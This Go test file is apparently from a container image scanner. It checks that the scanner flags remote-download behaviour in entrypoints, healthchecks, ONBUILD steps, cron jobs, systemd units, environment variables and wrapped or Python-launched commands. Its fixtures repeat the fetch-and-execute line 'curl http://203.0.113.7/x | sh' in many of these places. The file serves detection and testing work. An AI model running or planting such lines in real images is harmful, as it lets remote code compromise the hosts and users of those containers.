package gate

import (
	"fmt"
	"slices"
	"testing"

	"github.com/tidewaiter/tidewaiter/image"
)

// texts are the scripts of an image, and which of them each names.
type texts struct {
	scripts    map[string]string
	calls      map[string][]string
	autostarts []string
}

func (t texts) Script(path string) (string, bool) { text, ok := t.scripts[path]; return text, ok }
func (t texts) Scripts() map[string]string        { return t.scripts }
func (t texts) Calls(path string) []string        { return t.calls[path] }
func (t texts) Autostarts() []string              { return t.autostarts }

func TestImageRuns(t *testing.T) {
	const fetch = "curl http://203.0.113.7/x | sh"
	files := texts{
		scripts: map[string]string{
			"/run.sh": "#!/bin/sh\n. /lib.sh\n", "/lib.sh": "exec /deep.sh\n", "/deep.sh": fetch, "/harmless.sh": "true\n",
			"/etc/cron.d/job": "# nothing\n*/5 * * * * root " + fetch + "\n", "/etc/init.d/x": "#!/bin/sh\ntrue\n",
			"/lib/systemd/system/x.service": "[Service]\nExecStart=/bin/sh -c '" + fetch + "'\n",
			"/check.sh":                     "#!/bin/sh\n" + fetch + "\n",
		},
		calls:      map[string][]string{"/run.sh": {"/harmless.sh", "/lib.sh"}, "/lib.sh": {"/deep.sh", "/run.sh"}},
		autostarts: []string{"/etc/cron.d/job", "/etc/init.d/x", "/lib/systemd/system/x.service"},
	}
	config := image.Config{
		Entrypoint: []string{"/run.sh"}, Healthcheck: []string{"CMD", "/check.sh"},
		OnBuild: []string{"COPY . /app", "RUN " + fetch, `RUN ["sh", "-c", "` + fetch + `"]`, "run --mount=type=cache,target=/x " + fetch},
	}
	var got []string
	for _, run := range imageRuns(config, files) {
		text := fmt.Sprintf("%s %v", run.Where, run.Path)
		for _, a := range run.Actions {
			text += " " + string(a.Kind)
		}
		got = append(got, text)
	}
	want := []string{
		"entrypoint [config entrypoint]", "entrypoint [files /run.sh]", "entrypoint [files /deep.sh] runtime-download",
		"healthcheck [config healthcheck]", "healthcheck [files /check.sh] runtime-download",
		"onbuild [config onbuild] runtime-download", "onbuild [config onbuild] runtime-download", "onbuild [config onbuild] runtime-download",
		"autostart [files /etc/cron.d/job] runtime-download", "autostart [files /lib/systemd/system/x.service] runtime-download",
	}
	if !slices.Equal(got, want) {
		t.Errorf("got %q\nwant %q", got, want)
	}
}

// TestImageRunsWhole: what a command does follows from its arguments, its environment and the files that it reads, in
// whatever language; what is no script is not read as one.
func TestImageRunsWhole(t *testing.T) {
	const fetch = "curl http://203.0.113.7/x | sh"
	for _, test := range []struct {
		name    string
		command []string
		env     []string
		file    string // /app/main, and /bin/sh where it is about a shell
		want    string
	}{
		{"a variable", []string{"sh", "-c", `eval "$X"`}, []string{"X=" + fetch}, "", "runtime-download"},
		{"a variable in a script", []string{"/app/main"}, []string{"X=" + fetch}, "#!/bin/sh\neval \"$X\"\n", "runtime-download"},
		{"arguments of a script", []string{"/app/main", fetch}, nil, "#!/bin/sh\nsh -c \"$*\"\n", "runtime-download"},
		{"a script behind wrappers", []string{"nice", "-n", "10", "ionice", "-c", "3", "bash", "main"}, nil, fetch, "runtime-download"},
		{"a script of a program that nobody knows", []string{"/opt/x", "main"}, nil, fetch, "runtime-download"},
		{"a text in the shell's place", []string{"sh", "-c", fetch}, []string{"PATH=/app"}, "true\n", "runtime-download"},
		{"Python", []string{"python3", "-u", "main"}, nil, "import os\nos.system('" + fetch + "')\n", "runtime-download"},
		{"harmless Python", []string{"python3", "main"}, nil, "app = Flask(__name__)\n@app.route('/')\ndef x(): return (1)\n", ""},
		{"harmless JavaScript", []string{"node", "main"}, nil, "const x = require('express')();\n", ""},
		{"a configuration", []string{"nginx", "-c", "/app/main"}, nil, "http {\n  server { listen 80; }\n}\n", ""},
		{"a broken script", []string{"/app/main"}, nil, "#!/bin/sh\nif (\n", "unreadable"},
	} {
		t.Run(test.name, func(t *testing.T) {
			config := image.Config{Entrypoint: test.command[:1], Cmd: test.command[1:], Env: test.env, WorkingDir: "/app"}
			got := ""
			for _, run := range imageRuns(config, texts{scripts: map[string]string{"/app/main": test.file, "/app/sh": test.file}}) {
				for _, a := range run.Actions {
					got += string(a.Kind)
				}
				if run.Unreadable != "" {
					got += "unreadable"
				}
			}
			if got != test.want {
				t.Errorf("got %q, want %q", got, test.want)
			}
		})
	}
}
